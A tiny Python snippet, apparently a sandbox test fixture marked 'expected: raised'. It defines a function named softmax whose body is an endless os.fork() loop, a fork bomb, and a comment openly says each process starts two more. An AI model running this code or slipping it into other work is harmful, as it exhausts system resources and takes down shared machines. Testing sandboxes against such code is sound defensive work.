# expected: raised
# Each process starts two more.
import os


def softmax(z):
    while True:
        os.fork()
